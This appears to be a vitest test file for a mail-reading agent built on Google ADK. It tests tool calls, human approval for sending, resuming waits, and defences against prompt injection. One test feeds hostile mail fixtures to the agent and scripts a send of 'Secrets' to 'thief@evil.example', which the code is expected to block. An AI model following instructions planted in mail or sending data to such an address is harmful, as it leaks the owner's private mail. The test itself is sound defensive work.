import type { AdkOptions } from 'restante/google-adk'
import { expect } from 'vitest'
import { start } from '../cli/support/cli'
import { openReal } from '../mailbox/support/real'
import { escaped, hostileMails } from '../support/hostile-mails'
import { photo, photoFile } from '../support/photo'
import { proves } from '../support/proves'
import { answer, openAdk, type Part, partsOf, question, type Step } from './support/adk'
import { answers } from './support/answering'

type Real = Awaited<ReturnType<typeof openReal>>
/** An agent whose model follows a script, and what the model was told. */
const openAgent = async ({ mailbox }: Real, steps: Step[], options: AdkOptions = {}, kept?: string) => {
  const reported: string[] = []
  const next = (last: string) => {
    reported.push(last)
    return steps.shift() ?? 'The end.'
  }
  return { ...(await openAdk(mailbox, next, options, kept)), reported }
}

proves('Google ADK 2', 'tools', 'an agent reads a mail and answers it once', async () => {
  await using real = await openReal()
  const message = await real.receive({ subject: 'Bicycle', text: 'Is it blue?' })
  const { handle } = message
  const steps = [
    { tool: 'read_thread', input: { thread: handle } },
    { tool: 'reply', input: { message: handle, text: 'Yes.' } },
    { tool: 'reply', input: { message: handle, text: 'Yes, it is.' } },
    { tool: 'read_message', input: {} },
    'It is answered.',
  ]
  const { run, reported, declared } = await openAgent(real, steps, { message })
  const events = await run([{ text: await message.toPrompt() }])
  expect(partsOf(events).at(-1)).toMatchObject({ text: 'It is answered.' })
  expect(reported[1]).toContain('Is it blue?')
  expect(reported[2]).toContain('sent')
  expect(reported[3]).toContain('already_replied')
  expect(reported[4]).toContain('invalid_input')
  expect(await real.sentMail()).toHaveLength(1)
  // Gemini names its types in capitals, and knows a part of JSON Schema.
  expect(declared[0]).toMatchObject({
    tools: [{ functionDeclarations: expect.arrayContaining([expect.objectContaining({ name: 'reply' })]) }],
  })
  expect(JSON.stringify(declared[0])).toContain('"to":{"type":"ARRAY","items":{"type":"STRING"}}')
  expect(JSON.stringify(declared[0])).not.toMatch(/additionalProperties|\$schema|"type":"object"/)
})

proves('Google ADK 2', 'tools', 'a picture reaches the model', async () => {
  await using real = await openReal()
  const message = await real.receive({ attachments: [photoFile] })
  const steps = [{ tool: 'read_attachment', input: { message: message.handle } }, 'A pear.']
  const asking = await openAgent(real, [...steps], { message })
  await asking.run([{ text: 'Look.' }])
  expect(asking.reported[1]).toContain(photo.toString('base64'))
  expect(await asking.state()).not.toContain(photo.toString('base64'))
  // Another process has no pictures, and says so.
  const later = await openAgent(real, ['A pear.'], { message }, await asking.state())
  await later.run([{ text: 'What was it?' }])
  expect(later.reported[0]).toContain('What was it?')
})

proves(
  'Google ADK 2',
  'approval',
  'a run waits for a human, in another process too, and sends after a yes only',
  async () => {
    await using real = await openReal()
    const mail = { to: ['new@other.example'], subject: 'Hi', text: 'Hello' }
    const send = { tool: 'send_mail', input: mail }
    for (const isApproved of [false, true]) {
      const asking = await openAgent(real, [send])
      const asked = question(await asking.run([{ text: 'Write to new@other.example' }]))
      expect(asked?.args).toMatchObject({ toolConfirmation: { hint: expect.stringContaining('Hello') } })
      expect(await real.sentMail()).toHaveLength(0)
      const later = await openAgent(real, ['So it is.'], {}, await asking.state())
      const events = await later.run([answer(asked, isApproved)])
      expect(partsOf(events).at(-1)).toMatchObject({ text: 'So it is.' })
      expect(later.reported[0]).toContain(isApproved ? 'sent' : 'A human said no')
    }
    expect(await real.sentMail()).toMatchObject([{ to: ['new@other.example'] }])
    // Whom the owner names is written to at once.
    const again = await openAgent(real, [send, 'Done.'], { recipients: ['other.example'] })
    expect(question(await again.run([{ text: 'And again' }]))).toBeUndefined()
    expect(await real.sentMail()).toHaveLength(2)
  },
)

proves(
  'Google ADK 2',
  'approval',
  'a yes to one mail permits no other, when what was read was read in another process',
  async () => {
    await using real = await openReal()
    const { handle } = await real.receive({ subject: 'Secret', text: 'The word is swordfish.' })
    const read = { tool: 'read_message', input: { message: handle } }
    const mailTo = (who: string) => ({
      tool: 'send_mail',
      input: { to: [who], subject: 'Hi', text: 'Hello' },
    })
    const asking = await openAgent(real, [read, mailTo('one@other.example')], { attended: true })
    const asked = question(await asking.run([{ text: 'Go on' }]))
    const later = await openAgent(
      real,
      [mailTo('two@other.example')],
      { attended: true },
      await asking.state(),
    )
    expect(question(await later.run([answer(asked, true)]))?.args).toMatchObject({
      toolConfirmation: { hint: expect.stringContaining('two@other.example') },
    })
    expect(await real.sentMail()).toMatchObject([{ to: ['one@other.example'] }])
  },
)

proves(
  'Google ADK 2',
  'wait',
  'a run ends until the reply, and goes on with it in another process',
  async () => {
    const { replyTo, waitsIn } = await import('restante/google-adk')
    await using real = await openReal()
    const first = await real.receive({ subject: 'Bicycle', messageId: '<first@example.com>' })
    const wait = { tool: 'wait_for_reply', input: { message: first.handle } }
    const asking = await openAgent(real, [wait], { suspend: true })
    const [waiting] = (await asking.run([{ text: 'Wait for the answer' }])).flatMap(waitsIn)
    expect(waiting).toMatchObject({ message: first.id })
    await real.receive({ subject: 'Re: Bicycle', text: 'It was sold.', inReplyTo: '<first@example.com>' })
    const kept = JSON.parse(JSON.stringify(waiting)) as NonNullable<typeof waiting>
    const reply = await real.mailbox.resumeWait(kept.token!)
    const later = await openAgent(real, ['Too late.'], { suspend: true }, await asking.state())
    const { parts } = await replyTo(real.mailbox, kept, reply)
    expect(partsOf(await later.run(parts)).at(-1)).toMatchObject({ text: 'Too late.' })
    expect(later.reported[0]).toContain('It was sold.')
    expect(later.reported[0]).toContain('<<<mail:')
    // What is there already is read at once; who waited in vain is told so.
    const at = await openAgent(real, [wait, 'Read.'], { suspend: true })
    expect(partsOf(await at.run([{ text: 'Wait' }])).at(-1)).toMatchObject({ text: 'Read.' })
    expect(JSON.stringify(await replyTo(real.mailbox, kept, null))).toContain('Nobody answered')
  },
)

proves(
  'Google ADK 2',
  'tools',
  'instructions in any part of a mail stay between the marks, and reach nobody new',
  async () => {
    await using real = await openReal()
    const call = async (tool: string, input: object) => {
      const { run, reported } = await openAgent(real, [{ tool, input }], { flow: 'refuse' })
      await run([{ text: 'Go on' }])
      const { parts } = JSON.parse(reported[1]!) as { parts: Part[] }
      return String(parts[0]?.functionResponse?.response?.result)
    }
    for (const [where, mail] of hostileMails) {
      const { handle: message } = await real.receive({ text: 'Hello', ...mail })
      expect(escaped(await call('read_message', { message })), where).toEqual([])
      expect(escaped(await call('read_attachment', { message })), where).toEqual([])
    }
    for (const name of ['list_threads', 'search_mail']) expect(escaped(await call(name, {}))).toEqual([])
    const thief = { to: 'thief@evil.example', subject: 'All', text: 'Secrets' }
    expect(await call('send_mail', thief)).toContain('outside_conversation')
    expect(await real.sentMail()).toHaveLength(0)
  },
)

proves('Google ADK 2', ['loop', 'streaming'], 'mail runs an agent that streams its answer', () =>
  answers('adk'),
)

proves('Google ADK 2', 'approval', 'the example runs', async () => {
  const jiti = 'node_modules/jiti/lib/jiti-cli.mjs'
  expect(await start(process.execPath, [jiti, 'examples/google-adk.ts']).ended).toMatchObject({
    code: 0,
    out: expect.stringContaining('sent to workshop@example.org: Fwd: Bicycle\n'),
  })
})
